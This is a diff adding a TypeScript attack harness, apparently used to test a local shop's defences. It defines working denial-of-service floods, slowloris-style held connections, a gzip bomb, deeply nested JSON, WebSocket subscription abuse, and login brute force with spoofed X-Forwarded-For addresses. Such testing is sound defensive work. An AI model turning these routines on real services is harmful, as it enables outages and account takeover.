@@ -1,0 +1,187 @@
+import { randomUUID } from 'node:crypto';
+import { Agent, request, type OutgoingHttpHeaders } from 'node:http';
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { gzipSync } from 'node:zlib';
+import { WebSocket } from 'ws';
+
+/** What an attacker knows of the shop: its address, what any visitor can read, and one trick. */
+export interface Target {
+  /** On this machine only. */
+  url: string;
+  socketUrl: string;
+  basket: Record<string, unknown>;
+  /** The owner's address, which is often public. */
+  email: string;
+  /** What the shop takes for the attacker's address: it came through a proxy that is trusted. */
+  from: string;
+  seconds: number;
+}
+
+/** How often something happened: `{ '201': 5, '429': 295 }`. */
+export type Got = Record<string, number>;
+export type Attacker = (target: Target) => Promise<Got>;
+
+const agent = new Agent({ keepAlive: true, maxSockets: 64 });
+
+interface Sent {
+  method?: string;
+  path: string;
+  body?: unknown;
+  headers?: OutgoingHttpHeaders;
+}
+
+/** The status of the answer; `cut` when the connection ended without one. */
+function send({ url, from }: Target, { method = 'GET', path, body, headers }: Sent): Promise<string> {
+  const bytes = Buffer.isBuffer(body) ? body : body === undefined ? null : Buffer.from(JSON.stringify(body));
+  const type = bytes && { 'content-type': 'application/json', 'content-length': bytes.length };
+  return new Promise((resolve) => {
+    const call = request(url + path, { method, agent, headers: { 'x-forwarded-for': from, ...type, ...headers } });
+    call.on('response', (answer) => {
+      answer.resume().on('error', () => {});
+      answer.on('close', () => resolve(String(answer.statusCode)));
+    });
+    call.on('error', () => resolve('cut'));
+    call.end(bytes ?? undefined);
+  });
+}
+
+/** Begins this many calls a second, at most two hundred at once, and counts what comes of them. */
+function flood(perSecond: number, one: (target: Target, n: number) => Promise<string>): Attacker {
+  return async (target) => {
+    const got: Got = {};
+    const open = new Set<Promise<void>>();
+    const started = performance.now();
+    for (let n = 0; n < perSecond * target.seconds; n += 1) {
+      await sleep(Math.max(0, started + (n * 1000) / perSecond - performance.now()));
+      if (open.size >= 200) await Promise.race(open);
+      const call: Promise<void> = one(target, n).then((what) => {
+        add(got, what);
+        open.delete(call);
+      });
+      open.add(call);
+    }
+    await Promise.all(open);
+    return got;
+  };
+}
+
+function add(got: Got, what: string, times = 1): void {
+  got[what] = (got[what] ?? 0) + times;
+}
+
+/** Opens connections that each write `first`, and `more` every second; counts those that are still open at the end. */
+function hold(count: number, wait: number, { first, more }: { first: string; more: string }): Attacker {
+  return async ({ url }) => {
+    const { port, hostname } = new URL(url);
+    const sockets: Socket[] = [];
+    for (let n = 0; n < count; n += 1) {
+      const socket = connect(Number(port), hostname).on('error', () => {});
+      socket.resume().write(first);
+      sockets.push(socket);
+      if (n % 50 === 49) await sleep(50);
+    }
+    const feeding = setInterval(() => {
+      for (const socket of sockets) if (socket.writable && more !== '') socket.write(more);
+    }, 1_000);
+    await sleep(wait);
+    clearInterval(feeding);
+    const kept = sockets.filter(({ closed, readyState }) => !closed && readyState === 'open').length;
+    for (const socket of sockets) socket.destroy();
+    return { opened: count, kept };
+  };
+}
+
+/** Sockets of one address that stay open; `names` are subscribed to on each. */
+function listeners(count: number, names: (n: number) => string[]): Attacker {
+  return async ({ socketUrl, from, seconds }) => {
+    const got: Got = { opened: count, kept: 0, subscribed: 0 };
+    const sockets: WebSocket[] = [];
+    for (let n = 0; n < count; n += 1) {
+      const socket = new WebSocket(socketUrl, { headers: { 'x-forwarded-for': from } });
+      socket.on('error', () => {});
+      socket.on('message', (bytes) => {
+        const text = String(bytes);
+        if (text.includes('subscription_succeeded')) add(got, 'subscribed');
+        if (!text.includes('connection_established')) return;
+        for (const channel of names(n)) {
+          socket.send(JSON.stringify({ event: 'pusher:subscribe', data: { channel } }));
+        }
+      });
+      sockets.push(socket);
+      if (n % 20 === 19) await sleep(50);
+    }
+    await sleep(seconds * 1_000);
+    got['kept'] = sockets.filter(({ readyState }) => readyState === WebSocket.OPEN).length;
+    for (const socket of sockets) socket.terminate();
+    return got;
+  };
+}
+
+const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, 0x20));
+const phone = (n: number) => `07${String(700_000_000 + n)}`;
+const order = (target: Target, n: number, change: Record<string, unknown> = {}): Sent => ({
+  method: 'POST',
+  path: '/v1/orders',
+  body: { ...target.basket, contact: { name: 'Eve', phone: phone(n) }, session: randomUUID(), ...change },
+});
+const post = (path: string, type: string) => `POST ${path} HTTP/1.1\r\nhost: shop\r\ncontent-type: ${type}\r\n`;
+const endless = `${(64 * 1024).toString(16)}\r\n${'x'.repeat(64 * 1024)}\r\n`;
+
+/** Every attack of a stranger, by its name. */
+export const attackers = {
+  lists: flood(32, (target, n) =>
+    send(target, { path: `/v1/categories?include=related&per_page=200&page=${1 + (n % 9)}&search=${n}` }),
+  ),
+  pages: flood(100, (target, n) => send(target, { path: `/menu?item=${randomUUID()}&n=${n}` })),
+  orders: flood(60, (target) => send(target, order(target, 0))),
+  cards: flood(10, (target, n) => send(target, order(target, n, { payment_method: 'card' }))),
+  forged: flood(20, (target, n) => {
+    const headers = { 'x-forwarded-for': `198.51.100.${n % 250}, ${target.from}` };
+    return send(target, { ...order(target, n), headers });
+  }),
+  quotes: flood(200, (target) => send(target, { method: 'POST', path: '/v1/orders/quote', body: target.basket })),
+  problems: flood(50, (target) => {
+    const lines = Array.from({ length: 100 }, () => ({ item_id: randomUUID(), quantity: 1 }));
+    return send(target, { method: 'POST', path: '/v1/orders/quote', body: { ...target.basket, lines } });
+  }),
+  nested: flood(50, (target) =>
+    send(target, { method: 'POST', path: '/v1/orders', body: Buffer.from('['.repeat(32_000) + ']'.repeat(32_000)) }),
+  ),
+  sockets: listeners(1_000, () => []),
+  channels: listeners(190, (n) => ['__proto__', ...Array.from({ length: 99 }, (_, at) => `made-up-${n}-${at}`)]),
+  heads: hold(1_000, 14_000, { first: post('/v1/orders', 'application/json'), more: 'x-more: y\r\n' }),
+  bodies: hold(500, 19_000, {
+    first: `${post('/v1/orders', 'application/json')}content-length: 60000\r\n\r\n{`,
+    more: ' ',
+  }),
+  readers: hold(300, 14_000, { first: 'GET /menu HTTP/1.1\r\nhost: shop\r\n\r\n'.repeat(20), more: '' }),
+  endless: hold(100, 6_000, {
+    first: `${post('/v1/orders/quote', 'application/json')}transfer-encoding: chunked\r\n\r\n${endless.repeat(4)}`,
+    more: endless,
+  }),
+  uploads: hold(100, 6_000, {
+    first: `${post('/v1/uploads', 'image/png')}content-length: 8000000\r\n\r\n${'x'.repeat(256 * 1024)}`,
+    more: 'x'.repeat(64 * 1024),
+  }),
+  bombs: flood(20, (target) =>
+    send(target, { method: 'POST', path: '/v1/orders', body: bomb, headers: { 'content-encoding': 'gzip' } }),
+  ),
+  passwords: flood(20, (target, n) =>
+    send(target, { method: 'POST', path: '/v1/auth/login', body: { email: target.email, password: `guess ${n}` } }),
+  ),
+  botnet: flood(20, (target, n) =>
+    send(target, {
+      method: 'POST',
+      path: '/v1/auth/login',
+      body: { email: target.email, password: `guess ${n}` },
+      headers: { 'x-forwarded-for': `198.18.${n >> 8}.${n & 255}` },
+    }),
+  ),
+  resets: flood(20, (target) =>
+    send(target, { method: 'POST', path: '/v1/auth/forgot-password', body: { email: target.email } }),
+  ),
+  hosts: hold(200, 3_000, { first: 'GET / HTTP/1.1\r\nHost: shop\r\nHost: evil.example\r\n\r\n', more: '' }),
+} satisfies Record<string, Attacker>;
+
+export type AttackName = keyof typeof attackers;
